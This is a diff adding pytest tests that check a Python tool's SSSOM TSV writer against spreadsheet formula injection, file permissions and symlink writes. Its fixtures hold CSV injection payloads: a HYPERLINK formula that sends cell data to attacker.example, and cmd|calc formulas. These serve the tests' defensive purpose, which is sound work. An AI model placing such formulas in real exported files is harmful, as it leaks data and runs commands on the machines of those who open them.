@@ -4,9 +4,12 @@ a decision record, and SSSOM TSV opened in a spreadsheet."""
 
 from __future__ import annotations
 
+import csv
 import json
 import re
+import stat
 import xml.etree.ElementTree as ET
+from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -111,3 +114,103 @@ def test_any_text_leaves_every_renderer_well_formed_and_without_raw_controls(tex
         assert not RAW_CONTROL.search(rendered)
         json.loads(rendered)
         rendered.encode("utf-8")
+
+
+# --- SSSOM TSV opened in a spreadsheet -------------------------------------------------------------
+
+SSSOM_FIXTURES = Path(__file__).parent / "fixtures" / "sssom"
+#: Texts a spreadsheet would run (OWASP's examples of CSV injection).
+FORMULAS = {
+    "subject_label": '=HYPERLINK("https://attacker.example/?"&A1,"Klicka")',
+    "object_label": "+1+cmd|' /C calc'!A0",
+    "comment": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "author_label": "-2+3+cmd!A0",  # a list cell: no "|", which SSSOM escapes
+}
+
+
+def _hostile_crosswalk() -> dict:
+    from kll import adapters
+
+    package = adapters.get("sssom").read(SSSOM_FIXTURES / "crosswalk.sssom.tsv").package
+    mapping = package["mapping_sets"][0]["mappings"][0]
+    mapping["mapping_subject"]["label"] = {"sv": FORMULAS["subject_label"]}
+    mapping["mapping_object"]["label"] = {"sv": FORMULAS["object_label"]}
+    mapping["mapping_comment"] = FORMULAS["comment"]
+    mapping["mapping_author_labels"] = [FORMULAS["author_label"]]
+    mapping["reviewer_agreement"] = -0.5
+    return package
+
+
+def _table(path: Path) -> list[dict[str, str]]:
+    lines = [line for line in path.read_text(encoding="utf-8").splitlines(keepends=True) if not line.startswith("#")]
+    return list(csv.DictReader(lines, delimiter="\t"))
+
+
+def test_sssom_cells_that_a_spreadsheet_would_run_are_written_after_an_apostrophe(tmp_path: Path) -> None:
+    from kll import adapters
+
+    path = tmp_path / "out.sssom.tsv"
+    findings = adapters.get("sssom").write(_hostile_crosswalk(), path)
+    first, *others = _table(path)
+    for column, text in FORMULAS.items():
+        assert first[column] == "'" + text
+    # identifiers, numbers and dates as they were: a CURIE or IRI never begins with = + - @
+    assert first["subject_id"] == "sun-2020-field:723a" and first["object_id"] == "af-ssyk-2012:2221"
+    assert first["predicate_id"] == "skos:relatedMatch" and first["mapping_justification"] == "semapv:ManualMappingCuration"
+    assert first["confidence"] == "0.95" and first["reviewer_agreement"] == "-0.5" and first["mapping_date"] == "2026-03-02"
+    # the rows nobody touched are as the writer always wrote them
+    assert all(not cell.startswith("'") for row in others for cell in row.values())
+    neutralised = [f for f in findings if f.rule == "convert.not-representable" and "formula" in (f.detail or "")]
+    assert sorted(f.detail.split(":")[0] for f in neutralised) == sorted(FORMULAS)
+    for finding in neutralised:  # named by column and place, never by the text
+        assert all(text not in finding.detail and text not in finding.message_en for text in FORMULAS.values())
+        assert finding.location.pointer == "/mapping_sets/0/mappings/0"
+
+
+def test_a_normal_mapping_set_is_written_without_an_apostrophe(tmp_path: Path) -> None:
+    from kll import adapters
+
+    source = SSSOM_FIXTURES / "crosswalk.sssom.tsv"
+    path = tmp_path / "out.sssom.tsv"
+    original = adapters.get("sssom").read(source).package
+    findings = adapters.get("sssom").write(original, path)
+    assert not [f for f in findings if "formula" in (f.detail or "")]
+    assert not [cell for row in _table(path) for cell in row.values() if cell.startswith("'")]
+    assert adapters.get("sssom").read(path).package["mapping_sets"][0]["mappings"] == original["mapping_sets"][0]["mappings"]
+
+
+@pytest.mark.xfail(strict=True, reason="kll's SSSOM reader must undo the apostrophe: sssom_read.scan applies sssom_write.restored (issue 15 report)")
+def test_a_neutralised_cell_reads_back_as_the_text_it_was(tmp_path: Path) -> None:
+    from kll import adapters
+
+    path = tmp_path / "out.sssom.tsv"
+    adapters.get("sssom").write(_hostile_crosswalk(), path)
+    mapping = adapters.get("sssom").read(path).package["mapping_sets"][0]["mappings"][0]
+    assert mapping["mapping_subject"]["label"] == {"sv": FORMULAS["subject_label"]}
+    assert mapping["mapping_comment"] == FORMULAS["comment"]
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab0.5e"), max_size=8))
+def test_neutralising_a_cell_can_be_undone_exactly_and_never_leaves_a_formula(cell: str) -> None:
+    from kll.adapters.sssom_write import neutralised, restored
+
+    written = neutralised(cell)
+    assert restored(written) == cell
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-][0-9.]+(e[+-]?[0-9]+)?", written)
+
+
+def test_sssom_output_is_private_and_never_written_through_a_link(tmp_path: Path) -> None:
+    from kll import adapters
+    from kll.artifacts.output import OutputError
+
+    package = adapters.get("sssom").read(SSSOM_FIXTURES / "crosswalk.sssom.tsv").package
+    path = tmp_path / "out.sssom.tsv"
+    adapters.get("sssom").write(package, path)
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    victim = tmp_path / "victim.txt"
+    victim.write_text("untouched", encoding="utf-8")
+    link = tmp_path / "link.sssom.tsv"
+    link.symlink_to(victim)
+    with pytest.raises(OutputError):
+        adapters.get("sssom").write(package, link)
+    assert victim.read_text(encoding="utf-8") == "untouched"
